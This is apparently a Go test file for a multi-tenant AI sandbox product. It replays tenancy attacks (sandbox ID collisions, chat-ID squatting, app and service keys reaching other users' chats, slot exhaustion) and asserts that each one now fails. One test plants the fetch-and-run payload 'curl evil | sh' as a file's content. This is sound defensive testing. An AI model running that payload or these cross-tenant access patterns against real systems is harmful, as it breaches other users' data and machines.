package web_test

// Tenancy attacks (T5, T6) from a live attack run, through the product as
// engine serve builds it: real sign-in, app keys, share links, the
// service key and bwrap sandboxes. Each test asserts that the attack
// fails and that the legitimate use beside it still works.

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/flowbox/flowbox/apps"
	"github.com/flowbox/flowbox/auth"
	"github.com/flowbox/flowbox/engine/enginetest"
	"github.com/flowbox/flowbox/sandbox"
)

const completions = "/api/v1/chat/completions"

// publicApp makes a public app of the client's caller with the demo graph.
func publicApp(t *testing.T, c *enginetest.Client, name string) string {
	t.Helper()
	var app struct {
		ID string `json:"appId"`
	}
	expect(t, c, "POST", "/api/apps", map[string]any{"name": name, "public": true, "graph": apps.DemoGraph()}, 201).JSON(t, &app)
	return app.ID
}

// keyFor makes a key of appID as its owner.
func keyFor(t *testing.T, env *enginetest.Env, owner *enginetest.Client, appID string) *enginetest.Client {
	t.Helper()
	var made struct{ Key string }
	expect(t, owner, "POST", "/api/apps/"+appID+"/keys", map[string]any{"name": "program"}, 201).JSON(t, &made)
	return env.Bearer(made.Key)
}

// shell sends "$ cmd" to chatID of appID (customUid for keys) and returns
// the answer.
func shell(t *testing.T, c *enginetest.Client, appID, customUID, chatID, cmd string) string {
	t.Helper()
	body := map[string]any{"appId": appID, "chatId": chatID, "messages": message("$ " + cmd)}
	if customUID != "" {
		body["customUid"] = customUID
	}
	_, answer := sendTurn(t, c, completions, body, 200)
	return answer
}

// TestAttackSandboxIDCollision (finding 9): S1's sha256("appId-userId-
// chatId") spelled account "dan" with chat "x-c" and account "dan-x" with
// chat "c" alike, and app-key users "a"/"b-c" and "a-b"/"c" too: each
// read the other's files. Now each has a sandbox of its own, and each
// still finds its own files.
func TestAttackSandboxIDCollision(t *testing.T) {
	t.Parallel()
	env := enginetest.Start(t, enginetest.Options{})
	env.CreateUser(t, "dan", auth.RoleUser)
	env.CreateUser(t, "dan-x", auth.RoleUser)
	env.CreateUser(t, "alice", auth.RoleUser)
	dan := env.Login(t, "dan", enginetest.Password("dan"))
	danx := env.Login(t, "dan-x", enginetest.Password("dan-x"))
	alice := env.Login(t, "alice", enginetest.Password("alice"))
	app := newApp(t, alice, "collide")
	key := keyFor(t, env, alice, app)

	type side struct {
		c              *enginetest.Client
		app, uid, chat string
	}
	for _, pair := range [][2]side{
		{{dan, apps.DemoAppID, "", "x-c"}, {danx, apps.DemoAppID, "", "c"}},
		{{key, app, "a", "b-k"}, {key, app, "a-b", "k"}},
	} {
		owner, other := pair[0], pair[1]
		if got := shell(t, owner.c, owner.app, owner.uid, owner.chat, "echo owner-secret > s.txt && cat s.txt"); !strings.Contains(got, "owner-secret") {
			t.Fatalf("the owner's command: %q", got)
		}
		got := shell(t, other.c, other.app, other.uid, other.chat, "cat s.txt 2>/dev/null || echo no-such-file")
		if strings.Contains(got, "owner-secret") || !strings.Contains(got, "no-such-file") {
			t.Errorf("%s/%s read the file of %s/%s: %q", other.uid, other.chat, owner.uid, owner.chat, got)
		}
		// The owner's files are still the owner's.
		if got := shell(t, owner.c, owner.app, owner.uid, owner.chat, "cat s.txt"); !strings.Contains(got, "owner-secret") {
			t.Errorf("the owner lost their file: %q", got)
		}
	}
}

// TestAttackChatIDPreDelete (finding 10): deleting a chat id nobody has
// used yet recorded a deletion of that id for every user of the app, so
// the first user to pick it found their chat deleted. Now the deletion is
// refused with 404 and says nothing was deleted; the user's chat with
// that id works, and deleting one's own chat still works.
func TestAttackChatIDPreDelete(t *testing.T) {
	t.Parallel()
	env := enginetest.Start(t, enginetest.Options{})
	env.CreateUser(t, "alice", auth.RoleUser)
	env.CreateUser(t, "bob", auth.RoleUser)
	alice := env.Login(t, "alice", enginetest.Password("alice"))
	bob := env.Login(t, "bob", enginetest.Password("bob"))

	resp := expect(t, bob, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"report-2026"}}, 404)
	if !strings.Contains(string(resp.Body), "nothing was deleted") {
		t.Errorf("the refusal does not say what happened: %s", resp.Body)
	}
	if got := shell(t, alice, apps.DemoAppID, "", "report-2026", "echo alive"); !strings.Contains(got, "alive") {
		t.Fatalf("alice's chat with the id bob deleted ahead: %q", got)
	}
	// bob cannot delete alice's chat either; alice can.
	expect(t, bob, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"report-2026"}}, 404)
	expect(t, alice, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"report-2026"}}, 202)
}

// TestAttackChatIDSquat (finding 10): chat ids were global, so whoever
// used an id first owned it everywhere: mallory's upload under an app of
// her own took "report-2026", and alice's chat of that id in the demo app
// answered 404; in a public app, mallory's first turn under an id kept
// everyone else out of it. Chat ids are now scoped per app and user: each
// user's "report-2026" is a chat of their own, in history, files,
// sandbox, approvals and deletion alike, and deleting one leaves the other.
func TestAttackChatIDSquat(t *testing.T) {
	t.Parallel()
	env := enginetest.Start(t, enginetest.Options{})
	env.CreateUser(t, "alice", auth.RoleUser)
	env.CreateUser(t, "mallory", auth.RoleUser)
	alice := env.Login(t, "alice", enginetest.Password("alice"))
	mallory := env.Login(t, "mallory", enginetest.Password("mallory"))
	own := newApp(t, mallory, "squatter")

	// Another app: mallory's upload takes nothing from alice.
	if r := upload(t, mallory, "/api/uploads/report-2026?appId="+own, part{"squat.txt", []byte("mallory-was-here")}); r.Status != http.StatusCreated {
		t.Fatalf("mallory's upload to her own app: %d %s", r.Status, r.Body)
	}
	if got := shell(t, alice, apps.DemoAppID, "", "report-2026", "echo alice-report > r.txt && cat r.txt && ls /workspace/uploads"); !strings.Contains(got, "alice-report") || strings.Contains(got, "squat.txt") {
		t.Fatalf("alice's chat report-2026 after mallory's upload elsewhere: %q", got)
	}

	// The same public app: mallory's first turn under an id keeps alice
	// out of nothing, and neither sees the other's files or turns.
	if got := shell(t, mallory, apps.DemoAppID, "", "shared-id", "echo mallory-secret > m.txt && cat m.txt"); !strings.Contains(got, "mallory-secret") {
		t.Fatalf("mallory's chat: %q", got)
	}
	if got := shell(t, alice, apps.DemoAppID, "", "shared-id", "echo alice-secret > a.txt; ls"); !strings.Contains(got, "a.txt") || strings.Contains(got, "m.txt") {
		t.Fatalf("alice's chat shared-id: %q, want her own workspace", got)
	}
	resp := expect(t, alice, "GET", "/api/apps/"+apps.DemoAppID+"/chats/shared-id", nil, 200)
	if body := string(resp.Body); strings.Contains(body, "mallory") || !strings.Contains(body, "alice-secret") {
		t.Errorf("alice's history of shared-id: %s", clip(resp.Body))
	}
	files := expect(t, mallory, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "list", "appId": apps.DemoAppID, "chatId": "shared-id", "path": "/workspace"}, 200)
	if body := string(files.Body); !strings.Contains(body, "m.txt") || strings.Contains(body, "a.txt") {
		t.Errorf("mallory's files of shared-id: %s", files.Body)
	}

	// Deleting her own shared-id leaves alice's, files and sandbox.
	expect(t, mallory, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"shared-id"}}, 202)
	if got := shell(t, alice, apps.DemoAppID, "", "shared-id", "cat a.txt"); !strings.Contains(got, "alice-secret") {
		t.Errorf("alice's chat after mallory deleted hers of the same id: %q", got)
	}
	// Naming alice's chat by her user gets mallory nothing.
	expect(t, mallory, "GET", "/api/apps/"+apps.DemoAppID+"/chats/shared-id?userId=u:alice", nil, 404)
	expect(t, mallory, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "read", "appId": apps.DemoAppID, "chatId": "shared-id", "userId": "u:alice", "path": "a.txt"}, 404)
	expect(t, mallory, "DELETE", "/api/apps/"+apps.DemoAppID+"/chats", map[string]any{"chatIds": []string{"shared-id"}, "userId": "u:alice"}, 404)
}

// TestAttackAppKeyReachesAccountChats (finding 7): alice's key on her
// public app wrote run.sh into carol's chat, uploaded into it and deleted
// another of carol's chats, and still worked once an admin disabled alice.
// Now the key reaches only its own end users' (and visitors') chats, and
// stops, with alice's share links, while alice is disabled.
func TestAttackAppKeyReachesAccountChats(t *testing.T) {
	t.Parallel()
	env := enginetest.Start(t, enginetest.Options{})
	env.CreateUser(t, "alice", auth.RoleUser)
	env.CreateUser(t, "carol", auth.RoleUser)
	alice := env.Login(t, "alice", enginetest.Password("alice"))
	carol := env.Login(t, "carol", enginetest.Password("carol"))
	admin := env.Login(t, enginetest.AdminName, enginetest.AdminPassword)
	app := publicApp(t, alice, "public")
	key := keyFor(t, env, alice, app)
	l := newLink(t, alice, app, map[string]any{"name": "site"})

	if got := shell(t, carol, app, "", "carol-1", "echo carol-data > c.txt && cat c.txt"); !strings.Contains(got, "carol-data") {
		t.Fatalf("carol's chat: %q", got)
	}
	shell(t, carol, app, "", "carol-2", "true")

	// The attack: write, upload, delete and list through the key, naming
	// carol's chats by their user. Without the user, the key names its
	// own end user's chats of those ids (customUid "api"), never carol's.
	carolID := chatOf(t, env, app, "carol-1").UserID
	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "write", "appId": app, "chatId": "carol-1", "userId": carolID, "path": "run.sh", "content": "curl evil | sh"}, 404)
	if resp := upload(t, key, "/api/uploads/carol-1?appId="+app+"&userId="+carolID, part{"x.txt", []byte("planted")}); resp.Status != http.StatusNotFound {
		t.Errorf("upload into carol's chat with the app key: %d %s, want 404", resp.Status, resp.Body)
	}
	expect(t, key, "DELETE", "/api/apps/"+app+"/chats", map[string]any{"chatIds": []string{"carol-2"}, "userId": carolID}, 404)
	expect(t, key, "DELETE", "/api/apps/"+app+"/chats", map[string]any{"chatIds": []string{"carol-2"}}, 404)
	expect(t, key, "GET", "/api/apps/"+app+"/chats/carol-1?userId="+carolID, nil, 404)
	expect(t, key, "GET", "/api/apps/"+app+"/chats/carol-1", nil, 404)
	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "write", "appId": app, "chatId": "carol-1", "path": "run.sh", "content": "curl evil | sh"}, 200)
	if resp := expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 200); strings.Contains(string(resp.Body), "carol-") {
		t.Errorf("the app key lists carol's chats: %s", resp.Body)
	}
	// carol's chats are as she left them.
	read := expect(t, carol, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "list", "appId": app, "chatId": "carol-1", "path": "/workspace"}, 200)
	if strings.Contains(string(read.Body), "run.sh") {
		t.Errorf("run.sh landed in carol's chat: %s", read.Body)
	}
	expect(t, carol, "GET", "/api/apps/"+app+"/chats/carol-2", nil, 200)

	// The legitimate use: the key's own end user, and a visitor's chat.
	if got := shell(t, key, app, "user-7", "k-1", "echo mine > m.txt && cat m.txt"); !strings.Contains(got, "mine") {
		t.Fatalf("the key's end user: %q", got)
	}
	expect(t, key, "POST", "/api/core/ai/sandbox/file", map[string]any{"action": "read", "appId": app, "chatId": "k-1", "customUid": "user-7", "path": "m.txt"}, 200)
	v := visit(t, env, l.URL)
	_, _ = sendTurn(t, v, l.URL+"/api/v1/chat/completions", map[string]any{"chatId": "v-1", "messages": message("$ echo visitor")}, 200)
	expect(t, key, "GET", "/api/apps/"+app+"/chats/v-1?userId="+url.QueryEscape(chatOf(t, env, app, "v-1").UserID), nil, 200)

	// Disabled, alice's key and link stop; enabled again, they work.
	expect(t, admin, "POST", "/admin/api/users/u:alice/disable", nil, 200)
	expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 401)
	if resp := env.Anonymous().Do(t, "GET", l.URL, nil); resp.Status != http.StatusNotFound || !strings.Contains(string(resp.Body), "disabled or deleted") {
		t.Errorf("alice's share link while she is disabled: %d %s, want 404 saying why", resp.Status, clip(resp.Body))
	}
	expect(t, admin, "POST", "/admin/api/users/u:alice/enable", nil, 200)
	expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 200)
	visit(t, env, l.URL)

	// Deleted with her apps transferred, the keys and links go to the
	// new owner and keep working.
	env.CreateUser(t, "dave", auth.RoleUser)
	expect(t, admin, "DELETE", "/admin/api/users/u:alice?apps=transfer&to=u:dave", nil, 200)
	expect(t, key, "GET", "/api/apps/"+app+"/chats", nil, 200)
	visit(t, env, l.URL)
}

// TestAttackServiceKeyCustomUID (finding 12): the service key with
// customUid "u:alice" read alice's private chat, and with
// "app:<id>:a" an app key's user's. Now such customUids are the service
// key's own users; plain customUids work as before.
func TestAttackServiceKeyCustomUID(t *testing.T) {
	t.Parallel()
	env := enginetest.Start(t, enginetest.Options{})
	env.CreateUser(t, "alice", auth.RoleUser)
	alice := env.Login(t, "alice", enginetest.Password("alice"))
	svc := env.Bearer(enginetest.ServiceKey)
	shell(t, alice, apps.DemoAppID, "", "alice-private", "echo alice-private-data > p.txt")
	app := newApp(t, alice, "keyed")
	key := keyFor(t, env, alice, app)
	shell(t, key, app, "a", "key-user-chat", "echo key-user-data > k.txt")

	for _, tc := range []struct{ app, uid, chat string }{
		{apps.DemoAppID, "u:alice", "alice-private"},
		{app, "app:" + app + ":a", "key-user-chat"},
	} {
		// The chat is the service key's own user's (chat ids are scoped
		// per app and user): a new, empty one, never the victim's.
		body := map[string]any{"appId": tc.app, "chatId": tc.chat, "customUid": tc.uid, "messages": message("$ cat *.txt")}
		if resp := svc.Do(t, "POST", completions, body); strings.Contains(string(resp.Body), "data") || !strings.Contains(string(resp.Body), "No such file") {
			t.Errorf("service key as %s in %s: %d %s, want a chat of its own without the victim's files", tc.uid, tc.chat, resp.Status, clip(resp.Body))
		}
	}
	// Its own users: a plain customUid as before, a prefixed one apart.
	ctx := context.Background()
	for uid, stored := range map[string]string{"svc-user-1": "svc-user-1", "u:alice": "svc:u:alice"} {
		chatID, answer := sendTurn(t, svc, completions, map[string]any{"appId": apps.DemoAppID, "customUid": uid, "messages": message("$ echo service-ok")}, 200)
		if !strings.Contains(answer, "service-ok") {
			t.Fatalf("the service key's user %s: %q", uid, answer)
		}
		if _, err := env.Engine.Chats.Get(ctx, sandbox.Scope{AppID: apps.DemoAppID, UserID: stored, ChatID: chatID}); err != nil {
			t.Errorf("customUid %s: chat %s: %v, want it stored as user %s's", uid, chatID, err, stored)
		}
	}
}

// TestAttackAppKeyUsersTakeEverySlot (finding 5): looping customUid
// u1..u4 on one app key took every sandbox the server may run, and other
// users were refused. Now an app's key users share the app's cap, other
// users still get sandboxes, and at a user's own cap the least recently
// used idle sandbox is stopped (files kept) instead of the new chat
// refused.
func TestAttackAppKeyUsersTakeEverySlot(t *testing.T) {
	t.Parallel()
	env := enginetest.Start(t, enginetest.Options{Env: map[string]string{
		"FLOWBOX_CAP_SANDBOXES": "4", "FLOWBOX_CAP_APP_SANDBOXES": "2", "FLOWBOX_CAP_USER_SANDBOXES": "2",
	}})
	env.CreateUser(t, "alice", auth.RoleUser)
	env.CreateUser(t, "bob", auth.RoleUser)
	alice := env.Login(t, "alice", enginetest.Password("alice"))
	bob := env.Login(t, "bob", enginetest.Password("bob"))
	app := newApp(t, alice, "looped")
	key := keyFor(t, env, alice, app)

	for i, uid := range []string{"u1", "u2", "u3", "u4"} {
		got := shell(t, key, app, uid, "loop-"+uid, "echo slot")
		switch {
		case i < 2 && !strings.Contains(got, "slot"):
			t.Fatalf("%s within the app's cap: %q", uid, got)
		case i >= 2 && !strings.Contains(got, "app "+app+" (its key users) already has 2 running sandboxes"):
			t.Errorf("%s past the app's cap: %q, want the app cap's refusal", uid, got)
		}
	}
	// Other users still get sandboxes; bob's third chat stops his least
	// recently used one, whose files come back with it.
	if got := shell(t, bob, apps.DemoAppID, "", "b1", "echo kept > f && cat f"); !strings.Contains(got, "kept") {
		t.Fatalf("bob's first chat beside the looping key: %q", got)
	}
	for _, chat := range []string{"b2", "b3"} {
		if got := shell(t, bob, apps.DemoAppID, "", chat, "echo "+chat); !strings.Contains(got, chat) {
			t.Fatalf("bob's chat %s at his cap: %q", chat, got)
		}
	}
	svc := env.Engine.Services
	rec, err := svc.Manager.Lookup(context.Background(), sandbox.Scope{AppID: apps.DemoAppID, UserID: "u:bob", ChatID: "b1"})
	if err != nil || rec.Status != sandbox.StatusStopped {
		t.Errorf("bob's least recently used sandbox: %+v, %v; want stopped", rec, err)
	}
	if got := shell(t, bob, apps.DemoAppID, "", "b1", "cat f"); !strings.Contains(got, "kept") {
		t.Errorf("bob's stopped chat came back without its file: %q", got)
	}
	// The key's users within the cap still run.
	if got := shell(t, key, app, "u1", "loop-u1", "echo again"); !strings.Contains(got, "again") {
		t.Errorf("the key's user within the cap: %q", got)
	}
	// The admin page shows the app's cap and its use.
	admin := env.Login(t, enginetest.AdminName, enginetest.AdminPassword)
	if l, u := capRow(t, admin, "app-sandboxes"); l != "2" || u != "2" {
		t.Errorf("admin page: app sandboxes cap %s, use %s; want 2 and 2", l, u)
	}
}

// TestAttackOwnerAppsTakeEverySlot (finding 5, the owner's side): the
// app cap held each app's key users, but one owner with several apps and
// share links could still take every place the server has. Now an
// owner's own chats, their apps' key users and their links' visitors
// count together under the owner's cap, whatever the app or link; other
// owners' users still get sandboxes; and an app's users count against
// its new owner once it is transferred.
func TestAttackOwnerAppsTakeEverySlot(t *testing.T) {
	t.Parallel()
	env := enginetest.Start(t, enginetest.Options{Env: map[string]string{
		"FLOWBOX_CAP_SANDBOXES": "8", "FLOWBOX_CAP_USER_SANDBOXES": "2", "FLOWBOX_CAP_APP_SANDBOXES": "2",
		"FLOWBOX_CAP_LINK_SANDBOXES": "2", "FLOWBOX_CAP_OWNER_SANDBOXES": "4", "FLOWBOX_CAP_OWNER_RUNS": "6",
	}})
	env.CreateUser(t, "alice", auth.RoleUser)
	env.CreateUser(t, "bob", auth.RoleUser)
	alice := env.Login(t, "alice", enginetest.Password("alice"))
	bob := env.Login(t, "bob", enginetest.Password("bob"))
	first, second := newApp(t, alice, "first"), newApp(t, alice, "second")
	key1, key2 := keyFor(t, env, alice, first), keyFor(t, env, alice, second)
	l := newLink(t, alice, second, map[string]any{"name": "site", "showTools": true})
	api := l.URL + completions
	visitorShell := func(v *enginetest.Client, chat, cmd string) string {
		t.Helper()
		_, answer := sendTurn(t, v, api, map[string]any{"chatId": chat, "messages": message("$ " + cmd)}, 200)
		return answer
	}

	// Four sandboxes over two apps and a link, each within its own cap.
	for _, start := range []struct {
		who string
		run func() string
	}{
		{"key 1's u1", func() string { return shell(t, key1, first, "u1", "k1-u1", "echo slot") }},
		{"key 1's u2", func() string { return shell(t, key1, first, "u2", "k1-u2", "echo slot") }},
		{"key 2's u1", func() string { return shell(t, key2, second, "u1", "k2-u1", "echo slot") }},
		{"a visitor", func() string { return visitorShell(visit(t, env, l.URL), "v1", "echo slot") }},
	} {
		if got := start.run(); !strings.Contains(got, "slot") {
			t.Fatalf("%s within alice's caps: %q", start.who, got)
		}
	}
	// Past the owner's cap: a new key user of the second app, a new
	// visitor and alice herself are refused, each below its own cap.
	refusal := "owner u:alice (its own chats, its apps' key users and its share links' visitors together) already has 4 running sandboxes and the limit per owner is 4"
	for _, past := range []struct {
		who string
		run func() string
	}{
		{"key 2's u2", func() string { return shell(t, key2, second, "u2", "k2-u2", "echo slot") }},
		{"a second visitor", func() string { return visitorShell(visit(t, env, l.URL), "v2", "echo slot") }},
		{"alice", func() string { return shell(t, alice, apps.DemoAppID, "", "a1", "echo slot") }},
	} {
		if got := past.run(); !strings.Contains(got, refusal) || strings.Contains(got, "slot\n") {
			t.Errorf("%s past alice's owner cap: %q, want the refusal %q", past.who, got, refusal)
		}
	}
	// Another owner's users still get sandboxes, and alice's running
	// ones still run.
	bobApp := newApp(t, bob, "bob's")
	bobKey := keyFor(t, env, bob, bobApp)
	if got := shell(t, bobKey, bobApp, "u1", "bk-u1", "echo bob"); !strings.Contains(got, "bob") {
		t.Errorf("bob's key user beside alice's full cap: %q", got)
	}
	if got := shell(t, bob, apps.DemoAppID, "", "b1", "echo bob"); !strings.Contains(got, "bob") {
		t.Errorf("bob beside alice's full cap: %q", got)
	}
	if got := shell(t, key1, first, "u1", "k1-u1", "echo again"); !strings.Contains(got, "again") {
		t.Errorf("alice's running sandbox at her cap: %q", got)
	}

	admin := env.Login(t, enginetest.AdminName, enginetest.AdminPassword)
	if lim, use := capRow(t, admin, "owner-sandboxes"); lim != "4" || use != "4" {
		t.Errorf("admin page: owner sandboxes cap %s, use %s; want 4 and 4", lim, use)
	}
	if lim, _ := capRow(t, admin, "owner-runs"); lim != "6" {
		t.Errorf("admin page: owner runs cap %s, want 6", lim)
	}

	// alice leaves, her apps go to carol: their users are carol's now.
	env.CreateUser(t, "carol", auth.RoleUser)
	expect(t, admin, "DELETE", "/admin/api/users/u:alice?apps=transfer&to=u:carol", nil, 200)
	carol := env.Login(t, "carol", enginetest.Password("carol"))
	if got := shell(t, carol, apps.DemoAppID, "", "c1", "echo slot"); !strings.Contains(got, strings.ReplaceAll(refusal, "u:alice", "u:carol")) {
		t.Errorf("carol, owning alice's apps at the cap: %q, want the owner cap's refusal", got)
	}
}
